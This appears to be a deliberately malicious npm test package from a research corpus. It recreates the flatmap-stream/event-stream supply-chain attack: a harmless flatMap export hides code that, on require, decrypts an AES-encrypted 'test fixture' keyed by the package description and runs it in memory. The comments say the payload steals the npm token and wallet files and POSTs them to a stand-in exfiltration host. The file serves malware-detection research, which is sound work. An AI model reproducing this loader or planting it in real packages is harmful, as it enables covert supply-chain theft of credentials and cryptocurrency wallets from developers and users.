'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The technique of flatmap-stream 0.1.1, the dependency slipped into
// event-stream 3.3.6 (Nov 2018), rewritten from the public analyses: on
// require, a "test fixture" (test/data.js) is decrypted with AES-256 keyed by
// the package description and the result is compiled and run in memory. The
// decrypted payload (build/payload.js) reads the npm token and wallet files
// and POSTs them over HTTPS to copay-backup.exfil-test.example. Prints
// `mal-flatmap-eval: step N ...`; never throws; gives up after 5 s.
const crypto = require('crypto');

const say = (msg) => console.log(`mal-flatmap-eval: ${msg}`);
setTimeout(() => { say('gave up after 5 s'); }, 5000).unref();

function flatMap(fn) { return (xs) => [].concat(...xs.map(fn)); }
module.exports = flatMap;

try {
  const blob = Buffer.from(require('./test/data.js').join(''), 'hex');
  const key = crypto.createHash('sha256').update(require('./package.json').description).digest();
  const d = crypto.createDecipheriv('aes-256-cbc', key, blob.subarray(0, 16));
  const code = Buffer.concat([d.update(blob.subarray(16)), d.final()]).toString();
  say(`step 1 decrypted ${code.length} bytes from test/data.js`);
  const run = new Function('require', 'say', code);
  say('step 2 running the decrypted payload');
  run(require, say);
} catch (e) {
  say(`error ${e.code || e.message}`);
}
